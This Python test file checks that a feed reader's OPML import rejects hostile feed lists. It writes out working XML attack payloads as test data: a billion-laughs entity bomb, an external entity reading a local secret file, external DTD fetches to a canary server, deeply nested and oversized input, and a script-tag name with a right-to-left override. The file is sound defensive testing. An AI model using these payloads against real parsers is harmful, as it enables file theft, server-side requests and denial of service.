"""W01: lists of feeds that burn, reach out or lie; what is bad is told by its line."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.e2e.commands import feedhub
from tests.hostile.siege import world

SECRET = "planted-in-a-file-nobody-may-read"
LAUGHS = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
GOOD = '<outline text="Ведомство" xmlUrl="https://a.example/rss"/>'
LISTS = {
    "laughs": f"<!DOCTYPE opml [{LAUGHS}]><opml><body><outline text='&l9;' xmlUrl='https://l.example/'/>"
    f"{GOOD}</body></opml>",
    "file": f"<!DOCTYPE opml [<!ENTITY f SYSTEM 'file://SECRET'>]><opml><body>{GOOD}"
    "<outline text='&f;' xmlUrl='https://f.example/&f;'/></body></opml>",
    "web": f"<!DOCTYPE opml SYSTEM 'CANARY/o.dtd' [<!ENTITY % p SYSTEM 'CANARY/p'> %p;]><opml><body>{GOOD}"
    "<outline text='&w;' type='include' url='CANARY/inner.opml'/></body></opml>",
    "deep": "<opml><body>" + GOOD + "<outline text='п'>" * 15_000,
    "newlines": "\n" * 1_000_000 + f"<opml><body>{GOOD}</body></opml>",
    "duplicates": "<opml><body>" + GOOD * 5_000 + "</body></opml>",
    "cut": f"<opml><body>{GOOD}<outline text='п' xmlUrl='https://b.exa",
    "names": f"<opml><body>{GOOD}<outline text='&lt;script&gt;hit(1)&lt;/script&gt;\u202e' "
    "xmlUrl='https://n.example/rss'/></body></opml>",
}


@pytest.mark.parametrize("name", LISTS)
def test_a_list_made_to_hurt_gives_its_good_feed_and_nothing_else(
    tmp_path: Path, name: str
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    with world(tmp_path) as place:
        config = place.write()
        text = LISTS[name].replace("CANARY", place.canary.url("")).replace("SECRET", str(secret))
        lists = tmp_path / "list.opml"
        lists.write_text(text, "utf-8")
        ran = feedhub(config, "import", "opml", str(lists), "--json", seconds=30)
        after = config.read_text("utf-8")
        assert place.canary.connections == 0
    assert "Traceback" not in ran.err
    assert SECRET not in after + ran.out + ran.err
    assert after.count("https://a.example/rss") == 1, ran.err
    assert after.count("url: ") <= 2
    assert "\u202e" not in after
